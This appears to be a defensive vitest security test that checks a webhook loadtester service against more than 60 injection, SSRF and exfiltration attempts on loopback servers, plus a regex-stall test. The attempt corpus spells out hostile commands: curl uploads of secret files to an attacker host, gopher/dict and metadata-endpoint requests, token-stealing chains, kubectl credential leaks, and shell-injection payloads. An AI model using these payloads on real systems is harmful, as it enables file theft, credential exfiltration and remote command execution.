/**
 * R5: injection and exfiltration attempts against a real `vireo loadtester` on 127.0.0.1, with its
 * default settings and no token (the case issue 21 describes), and real servers on loopback: the
 * canary target, an attacker's server (an allowed target, as a server on the internet would be), a
 * local-mode daemon that runs whatever a request with its token asks, and a private Unix socket.
 * Each attempt is sent, its effects are looked for, and the figures are printed:
 * executed (a marker file appeared, the daemon ran a program, a command ran for a web page),
 * files read (a secret file's content in an answer, a log or at the attacker's server),
 * credentials sent (the Kubernetes token or the daemon token at the attacker's server),
 * internal servers reached (the daemon or the socket got a request), credentials logged, stalls.
 * The threat model is in docs/loadtester.md, "Threat model".
 */
import { execFileSync, spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import {
  createServer,
  type IncomingHttpHeaders,
  type IncomingMessage,
  type Server,
  type ServerResponse,
} from 'node:http';
import { createServer as createTlsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { request } from 'undici';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSystemClock } from '../../src/loadtester/clock.js';
import { SpawnProcessRunner } from '../../src/loadtester/runner.js';
import { buildLoadtester } from '../../src/loadtester/server.js';
import { parseTargetPattern } from '../../src/loadtester/targets.js';
import { createLogger } from '../../src/shared/logger.js';

const clock = createSystemClock();
const secret = (label: string): string => `${label}-${randomBytes(8).toString('hex')}`;
const FILE_MARKER = secret('FILE-CONTENT');
const KUBE_TOKEN = secret('KUBE-TOKEN');
const DAEMON_TOKEN = secret('DAEMON-TOKEN');
const LOG_SECRETS = Array.from({ length: 6 }, (_, index) => secret(`LOG-SECRET-${index}`));

interface Recorded {
  readonly path: string;
  readonly headers: IncomingHttpHeaders;
  readonly body: string;
}

const home = mkdtempSync(join(tmpdir(), 'vireo-r5-'));
const secretFile = join(home, 'secret.txt');
const daemonJson = join(home, 'daemon.json');
const kubeconfig = join(home, 'kubeconfig');
const socketPath = join(home, 'private.sock');
const servers: Server[] = [];
const attackerSeen: Recorded[] = [];
const daemonSeen: Recorded[] = [];
const socketSeen: Recorded[] = [];
let daemonRuns = 0;
let attackerPort = 0;
let attackerTlsPort = 0;
let daemonPort = 0;
let targetPort = 0;
let base = '';
let logLines: string[] = [];
let closeLoadtester: () => Promise<void> = () => Promise.resolve();

type Reply = (status: number, headers?: Record<string, string>, body?: string) => void;

function recorder(into: Recorded[], onRequest?: (seen: Recorded, reply: Reply) => boolean) {
  return (incoming: IncomingMessage, response: ServerResponse): void => {
    let body = '';
    incoming.on('data', (chunk: Buffer) => (body += chunk.toString('latin1')));
    incoming.on('end', () => {
      const seen = { path: incoming.url ?? '', headers: incoming.headers, body };
      into.push(seen);
      const reply: Reply = (status, headers = {}, text = 'ok') => {
        response.writeHead(status, headers).end(text);
      };
      if (onRequest?.(seen, reply) !== true) reply(200);
    });
  };
}

function record(into: Recorded[], onRequest?: (seen: Recorded, reply: Reply) => boolean): Server {
  return createServer(recorder(into, onRequest));
}

async function listen(server: Server, where: number | string = 0): Promise<number> {
  servers.push(server);
  await new Promise<void>((resolve) => {
    if (typeof where === 'string') server.listen(where, resolve);
    else server.listen(where, '127.0.0.1', resolve);
  });
  return typeof where === 'string' ? 0 : (server.address() as AddressInfo).port;
}

beforeAll(async () => {
  writeFileSync(secretFile, `${FILE_MARKER}\n`);
  // The attacker's server: redirects to a file and to the daemon, records everything.
  attackerPort = await listen(
    record(attackerSeen, (seen, reply) => {
      if (seen.path.startsWith('/redirect-file')) reply(302, { location: `file://${secretFile}` });
      else if (seen.path.startsWith('/redirect-daemon'))
        reply(307, { location: `http://127.0.0.1:${daemonPort}/apply` });
      else return false;
      return true;
    }),
  );
  // A local-mode daemon: /apply with its token runs the program the body names.
  daemonPort = await listen(
    record(daemonSeen, (seen, reply) => {
      if (seen.path === '/apply' && seen.headers.authorization === `Bearer ${DAEMON_TOKEN}`) {
        daemonRuns += 1;
        reply(202, {}, 'applied');
        return true;
      }
      if (seen.path.startsWith('/status')) {
        reply(200, {}, `internal status ${FILE_MARKER}`);
        return true;
      }
      return false;
    }),
  );
  targetPort = await listen(record([]));
  // The attacker's HTTPS server, where kubectl would send the loadtester's Kubernetes token
  // (self-signed: --insecure-skip-tls-verify accepts it). openssl is how the test suite makes certificates.
  execFileSync(
    'openssl',
    ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', '-days', '1'].concat([
      '-keyout',
      join(home, 'key.pem'),
      '-out',
      join(home, 'cert.pem'),
      '-subj',
      '/CN=attacker',
    ]),
    { stdio: 'ignore' },
  );
  attackerTlsPort = await listen(
    createTlsServer(
      { key: readFileSync(join(home, 'key.pem')), cert: readFileSync(join(home, 'cert.pem')) },
      recorder(attackerSeen),
    ),
  );
  await listen(record(socketSeen), socketPath);
  writeFileSync(
    daemonJson,
    JSON.stringify({ url: `http://127.0.0.1:${daemonPort}`, token: DAEMON_TOKEN, note: FILE_MARKER }),
  );
  writeFileSync(
    kubeconfig,
    [
      `# ${FILE_MARKER}`,
      'apiVersion: v1',
      'kind: Config',
      'clusters: [{name: c, cluster: {server: "http://127.0.0.1:1"}}]',
      `users: [{name: u, user: {token: "${KUBE_TOKEN}"}}]`,
      'contexts: [{name: x, context: {cluster: c, user: u, namespace: test}}]',
      'current-context: x',
      '',
    ].join('\n'),
  );

  logLines = [];
  const logger = createLogger({
    level: 'debug',
    destination: { write: (line: string) => logLines.push(line) },
  });
  const app = await buildLoadtester({
    // Default settings, no token; the canary target and the attacker's server are allowed targets.
    settings: {
      stateFile: join(home, 'gates.json'),
      targets: {
        patterns: [
          parseTargetPattern(`127.0.0.1:${targetPort}`),
          parseTargetPattern(`127.0.0.1:${attackerPort}`),
          parseTargetPattern(`127.0.0.1:${attackerTlsPort}`),
        ],
      },
    },
    logger,
    runner: new SpawnProcessRunner({
      clock,
      env: { ...process.env, KUBECONFIG: kubeconfig, HOME: home },
    }),
  });
  await app.listen({ host: '127.0.0.1', port: 0 });
  base = `http://127.0.0.1:${(app.server.address() as AddressInfo).port}`;
  closeLoadtester = () => app.close();
});

afterAll(async () => {
  await closeLoadtester();
  await Promise.all(
    servers.map(
      (server) =>
        new Promise((resolve) => {
          server.closeAllConnections();
          server.close(resolve);
        }),
    ),
  );
});

interface Attempt {
  readonly name: string;
  readonly path?: string;
  /** The webhook metadata, or a whole body. */
  readonly metadata?: Record<string, string>;
  readonly headers?: Record<string, string>;
  readonly body?: string;
  /** A file this attempt would create if a command of its choice ran. */
  readonly marker?: string;
}

interface Effects {
  executed: boolean;
  fileRead: boolean;
  credentialSent: boolean;
  internalReached: boolean;
  status: number;
}

async function runningTasks(): Promise<number> {
  const response = await request(`${base}/metrics`);
  const text = await response.body.text();
  return Number(/^vireo_loadtester_running_tasks (\d+)/m.exec(text)?.[1] ?? '0');
}

/** Sends one attempt, waits until whatever it started has ended, and looks for its effects. */
async function attempt(one: Attempt): Promise<Effects> {
  const before = {
    attacker: attackerSeen.length,
    daemon: daemonSeen.length,
    socket: socketSeen.length,
    runs: daemonRuns,
  };
  const body =
    one.body ??
    JSON.stringify({ name: 'podinfo', namespace: 'test', phase: 'Progressing', metadata: one.metadata });
  // An attempt that hangs the loadtester's answer counts by its effects all the same.
  let status = 0;
  let answer = '';
  try {
    const response = await request(`${base}${one.path ?? '/'}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...one.headers },
      body,
      headersTimeout: 20_000,
      bodyTimeout: 20_000,
    });
    status = response.statusCode;
    answer = await response.body.text();
  } catch {
    // No answer (status stays 0): the effects below still count.
  }
  const until = clock.monotonic() + 30_000;
  while ((await runningTasks()) > 0 && clock.monotonic() < until) await clock.sleep(50);
  const attackerNew = attackerSeen.slice(before.attacker);
  const atAttacker = attackerNew
    .map((seen) => `${JSON.stringify(seen.headers)}\n${seen.body}\n${seen.path}`)
    .join('\n');
  return {
    status,
    executed:
      (one.marker !== undefined && existsSync(one.marker)) ||
      daemonRuns > before.runs ||
      (one.headers?.['origin'] !== undefined && attackerNew.length > 0) ||
      (one.headers?.['host'] !== undefined && attackerNew.length > 0),
    fileRead: answer.includes(FILE_MARKER) || atAttacker.includes(FILE_MARKER),
    credentialSent: atAttacker.includes(KUBE_TOKEN) || atAttacker.includes(DAEMON_TOKEN),
    internalReached: daemonSeen.length > before.daemon || socketSeen.length > before.socket,
  };
}

function corpus(): Attempt[] {
  const attacker = `http://127.0.0.1:${attackerPort}`;
  const daemon = `http://127.0.0.1:${daemonPort}`;
  const target = `http://127.0.0.1:${targetPort}`;
  const shown = (metadata: Record<string, string>) => ({
    wait: 'true',
    returnCmdOutput: 'true',
    ...metadata,
  });
  const cmd = (text: string) => shown({ cmd: text });
  const marker = (id: string) => join(home, `pwned-${id}`);
  const attempts: Attempt[] = [
    // Files read through curl's URL handling, returned with returnCmdOutput.
    { name: 'curl URL glob {file}', metadata: cmd(`curl {file}://${secretFile}`) },
    { name: 'curl URL glob [f-f]ile', metadata: cmd(`curl [f-f]ile://${secretFile}`) },
    { name: 'curl file:/path', metadata: cmd(`curl file:${secretFile}`) },
    { name: 'curl file:///path', metadata: cmd(`curl file://${secretFile}`) },
    { name: 'curl --proto-default file', metadata: cmd(`curl --proto-default file ${secretFile}`) },
    {
      name: 'curl -L --proto-redir =all to file://',
      metadata: cmd(`curl -L --proto-redir =all ${attacker}/redirect-file`),
    },
    { name: 'curl -w @file', metadata: cmd(`curl -w @${secretFile} ${target}/`) },
    { name: 'curl -K config', metadata: cmd(`curl -K ${secretFile} ${target}/`) },
    {
      name: 'curl bash task reading a file',
      metadata: shown({ type: 'bash', cmd: `curl {file}://${secretFile} | grep FILE` }),
    },
    // A file's content sent to the attacker's server.
    { name: 'curl --url-query x@file', metadata: cmd(`curl --url-query x@${secretFile} ${attacker}/`) },
    { name: 'curl -F f=@file', metadata: cmd(`curl -F f=@${secretFile} ${attacker}/`) },
    { name: "curl -F 'f=<file'", metadata: cmd(`curl -F 'f=<${secretFile}' ${attacker}/`) },
    { name: 'curl --etag-compare file', metadata: cmd(`curl --etag-compare ${secretFile} ${attacker}/`) },
    {
      name: 'curl --data-urlencode x@file',
      metadata: cmd(`curl --data-urlencode x@${secretFile} ${attacker}/`),
    },
    {
      name: 'curl --data-urlencode=x@file',
      metadata: cmd(`curl --data-urlencode=x@${secretFile} ${attacker}/`),
    },
    { name: 'curl -d @file', metadata: cmd(`curl -d @${secretFile} ${attacker}/`) },
    { name: 'curl --json @file', metadata: cmd(`curl --json @${secretFile} ${attacker}/`) },
    { name: 'curl -T file', metadata: cmd(`curl -T ${secretFile} ${attacker}/`) },
    { name: 'curl -H @file', metadata: cmd(`curl -H @${secretFile} ${attacker}/`) },
    {
      name: 'curl --upload-file via abbreviation',
      metadata: cmd(`curl --upload ${secretFile} ${attacker}/`),
    },
    { name: 'hey -D file', metadata: cmd(`hey -n 1 -m POST -D ${secretFile} ${attacker}/`) },
    { name: 'hey --D=file', metadata: cmd(`hey -n 1 -m POST --D=${secretFile} ${attacker}/`) },
    { name: 'hey -D after the URL', metadata: cmd(`hey -n 1 ${attacker}/ -D ${secretFile}`) },
    // Raw TCP and private sockets (SSRF).
    {
      name: 'curl {gopher} to the daemon',
      metadata: cmd(`curl {gopher}://127.0.0.1:${daemonPort}/_GET%20/status`),
    },
    {
      name: 'curl gopher to the daemon',
      metadata: cmd(`curl gopher://127.0.0.1:${daemonPort}/_GET%20/status`),
    },
    { name: 'curl {dict} to the daemon', metadata: cmd(`curl {dict}://127.0.0.1:${daemonPort}/status`) },
    { name: 'curl --unix-socket', metadata: cmd(`curl --unix-socket ${socketPath} http://localhost/`) },
    { name: 'curl loopback service', metadata: cmd(`curl ${daemon}/status`) },
    { name: 'curl localhost service', metadata: cmd(`curl http://localhost:${daemonPort}/status`) },
    {
      name: 'curl IPv4-mapped IPv6 loopback',
      metadata: cmd(`curl http://[::ffff:127.0.0.1]:${daemonPort}/status`),
    },
    {
      name: 'request decimal loopback',
      metadata: { type: 'request', url: `http://2130706433:${daemonPort}/status`, returnCmdOutput: 'true' },
    },
    { name: 'curl -x proxy to the daemon', metadata: cmd(`curl -x ${daemon} ${attacker}/status`) },
    {
      name: 'curl --connect-to the daemon',
      metadata: cmd(`curl --connect-to ::127.0.0.1:${daemonPort} ${attacker}/status`),
    },
    { name: 'curl -L redirect to the daemon', metadata: cmd(`curl -L -d x ${attacker}/redirect-daemon`) },
    {
      name: 'hey redirect to the daemon',
      metadata: cmd(`hey -n 1 -m POST -d x ${attacker}/redirect-daemon`),
    },
    { name: 'hey loopback service', metadata: cmd(`hey -n 1 ${daemon}/status`) },
    {
      name: 'load loopback service',
      metadata: { type: 'load', url: `${daemon}/status`, duration: '200ms', wait: 'true' },
    },
    {
      name: 'request loopback service',
      metadata: { type: 'request', url: `${daemon}/status`, returnCmdOutput: 'true' },
    },
    {
      name: 'request link-local metadata',
      metadata: { type: 'request', url: 'http://169.254.169.254/latest/meta-data/' },
    },
    // The chain: local mode's daemon.json, then a program through the daemon's /apply.
    { name: 'chain step 1: read daemon.json', metadata: cmd(`curl {file}://${daemonJson}`) },
    {
      name: 'chain step 2: POST a Workload to /apply',
      metadata: cmd(
        `curl -H 'Authorization: Bearer ${DAEMON_TOKEN}' -d '{"program":"touch ${marker('daemon')}"}' ${daemon}/apply`,
      ),
    },
    {
      name: 'chain step 2 through a glob',
      metadata: cmd(
        `curl -H 'Authorization: Bearer ${DAEMON_TOKEN}' -d x {http}://127.0.0.1:${daemonPort}/apply`,
      ),
    },
    // The loadtester's Kubernetes credentials sent to the attacker.
    {
      name: 'kubectl rollout status --server',
      metadata: shown({
        type: 'kubectl',
        cmd: `rollout status deploy/podinfo --server=https://127.0.0.1:${attackerTlsPort} --insecure-skip-tls-verify --request-timeout=5s`,
      }),
    },
    {
      name: 'kubectl in a cmd with -s',
      metadata: cmd(
        `kubectl rollout status deploy/podinfo -s https://127.0.0.1:${attackerTlsPort} --insecure-skip-tls-verify --request-timeout=5s`,
      ),
    },
    { name: 'kubectl get secrets', metadata: shown({ type: 'kubectl', cmd: 'get secrets -o yaml' }) },
    {
      name: 'helm test --kube-apiserver',
      metadata: shown({ type: 'helm', cmd: `test podinfo --kube-apiserver ${attacker}` }),
    },
    // Programs of the attacker's choice.
    {
      name: 'separator',
      metadata: cmd(`hey -n 1 ${target}/; touch ${marker('sep')}`),
      marker: marker('sep'),
    },
    {
      name: 'and-list',
      metadata: cmd(`hey -n 1 ${target}/ && touch ${marker('and')}`),
      marker: marker('and'),
    },
    {
      name: 'substitution',
      metadata: cmd(`hey -n 1 ${target}/$(touch ${marker('sub')})`),
      marker: marker('sub'),
    },
    {
      name: 'backticks',
      metadata: cmd(`hey -n 1 "${target}/\`touch ${marker('tick')}\`"`),
      marker: marker('tick'),
    },
    { name: 'newline', metadata: cmd(`hey -n 1 ${target}/\ntouch ${marker('nl')}`), marker: marker('nl') },
    {
      name: 'pipe to sh',
      metadata: cmd(`curl ${target}/ | sh -c 'touch ${marker('pipe')}'`),
      marker: marker('pipe'),
    },
    {
      name: 'bash task',
      metadata: shown({ type: 'bash', cmd: `touch ${marker('bash')}` }),
      marker: marker('bash'),
    },
    { name: 'sh -c', metadata: cmd(`sh -c "touch ${marker('sh')}"`), marker: marker('sh') },
    { name: 'env', metadata: cmd(`env touch ${marker('env')}`), marker: marker('env') },
    { name: 'program path', metadata: cmd(`/usr/bin/touch ${marker('path')}`), marker: marker('path') },
    { name: 'curl -o a file', metadata: cmd(`curl -o ${marker('out')} ${target}/`), marker: marker('out') },
    { name: 'wrk -s script', metadata: cmd(`wrk -s ${secretFile} ${target}/`) },
    // Web pages driving the loadtester through a browser.
    {
      name: 'browser page (CSRF)',
      headers: { origin: 'http://evil.example', 'content-type': 'text/plain' },
      metadata: cmd(`curl ${attacker}/csrf`),
    },
    {
      name: 'DNS rebinding (Host of a foreign name)',
      headers: { host: `rebind.evil.example:${base.split(':').at(-1)}` },
      metadata: cmd(`curl ${attacker}/rebind`),
    },
  ];
  return attempts;
}

/** Commands that carry credentials a log reader must not see. */
function loggedCredentials(): Attempt[] {
  const attacker = `http://127.0.0.1:${attackerPort}`;
  const [a, b, c, d, e, f] = LOG_SECRETS;
  const run = (text: string): Attempt => ({
    name: text,
    metadata: { cmd: text, wait: 'true', timeout: '10s' },
  });
  return [
    run(`curl -u admin:${a} ${attacker}/`),
    run(`curl -H 'X-Api-Key: ${b}' ${attacker}/`),
    run(`curl -H 'Cookie: session=${c}' ${attacker}/`),
    run(`hey -n 1 -a admin:${d} ${attacker}/`),
    run(`curl https://user:${e}@127.0.0.1:${attackerPort}/`),
    run(`curl -H 'Authorization: Bearer ${f}' ${attacker}/`),
  ];
}

describe('R5: attacks on vireo loadtester (default settings, no token)', () => {
  it(
    'executes nothing, reads no file, sends no credential, reaches no internal server',
    { timeout: 600_000 },
    async () => {
      const results: { name: string; effects: Effects }[] = [];
      for (const one of [...corpus(), ...loggedCredentials()]) {
        results.push({ name: one.name, effects: await attempt(one) });
      }
      const logText = logLines.join('');
      const credentialsLogged = LOG_SECRETS.filter((value) => logText.includes(value)).length;
      const count = (key: keyof Omit<Effects, 'status'>) =>
        results.filter((result) => result.effects[key]).length;
      const figures = {
        attempts: results.length,
        executed: count('executed'),
        filesRead: count('fileRead') + (logText.includes(FILE_MARKER) ? 1 : 0),
        credentialsSent: count('credentialSent'),
        internalReached: count('internalReached'),
        credentialsLogged,
      };
      console.log(
        `R5 loadtester attacks: ${figures.attempts} attempts, ${figures.executed} executed, ${figures.filesRead} files read, ` +
          `${figures.credentialsSent} credentials sent, ${figures.internalReached} internal servers reached, ` +
          `${figures.credentialsLogged} of ${LOG_SECRETS.length} credentials logged`,
      );
      const succeeded = results
        .filter(
          ({ effects }) =>
            effects.executed || effects.fileRead || effects.credentialSent || effects.internalReached,
        )
        .map(({ name, effects }) => `${name}: ${JSON.stringify(effects)}`);
      if (succeeded.length > 0) console.log(`succeeded:\n${succeeded.join('\n')}`);
      expect(succeeded).toEqual([]);
      expect(figures).toMatchObject({
        executed: 0,
        filesRead: 0,
        credentialsSent: 0,
        internalReached: 0,
        credentialsLogged: 0,
      });
      expect(results.length).toBeGreaterThanOrEqual(60);
      // The control: the same machinery sees a legitimate acceptance test reach the attacker's server.
      const control = await attempt({
        name: 'control',
        metadata: { cmd: `curl -sS -d control http://127.0.0.1:${attackerPort}/control`, wait: 'true' },
      });
      expect(control.status).toBe(200);
      expect(attackerSeen.some((seen) => seen.path === '/control' && seen.body === 'control')).toBe(true);
    },
  );

  it(
    'a --namespace-regexp with catastrophic backtracking does not stall the server',
    { timeout: 90_000 },
    async () => {
      const repository = join(import.meta.dirname, '..', '..');
      const child = spawn(
        process.execPath,
        [
          '--import',
          'tsx',
          '-e',
          "const { runCli } = await import('./src/cli/main.ts'); process.exitCode = await runCli(process.argv);",
          'vireo',
          'loadtester',
          '--port=0',
          '--host=127.0.0.1',
          `--state-file=${join(home, 'regexp-gates.json')}`,
          '--namespace-regexp=^(a|aa)+$',
        ],
        {
          cwd: repository,
          stdio: ['ignore', 'ignore', 'pipe'],
          env: { ...process.env, VIREO_LOADTESTER_TOKEN: '' },
        },
      );
      let stderr = '';
      child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
      try {
        const until = clock.monotonic() + 60_000;
        let port: string | undefined;
        while (port === undefined && clock.monotonic() < until) {
          port = /"listening on http:\/\/127\.0\.0\.1:(\d+)"/.exec(stderr)?.[1];
          await clock.sleep(50);
        }
        expect(port).toBeDefined();
        const loadtester = `http://127.0.0.1:${port}`;
        const evil = { name: 'podinfo', namespace: `${'a'.repeat(62)}b` };
        const answers = await Promise.all(
          [0, 1, 2].map(async () => {
            const response = await request(`${loadtester}/gate/check`, {
              method: 'POST',
              body: JSON.stringify(evil),
              headersTimeout: 20_000,
            });
            return { status: response.statusCode, text: await response.body.text() };
          }),
        );
        expect(answers.every((answer) => answer.status === 403)).toBe(true);
        const health = await request(`${loadtester}/healthz`, { headersTimeout: 20_000 });
        expect(health.statusCode).toBe(200);
        await health.body.dump();
        const good = await request(`${loadtester}/gate/check`, {
          method: 'POST',
          body: JSON.stringify({ name: 'podinfo', namespace: 'aaaa' }),
          headersTimeout: 20_000,
        });
        expect({ status: good.statusCode, text: await good.body.text() }).toEqual({
          status: 403,
          text: 'closed',
        });
        console.log(
          'R5 loadtester attacks: 0 stalls (namespace-regexp ^(a|aa)+$ on a 63-character namespace)',
        );
      } finally {
        child.kill('SIGKILL');
      }
    },
  );
});
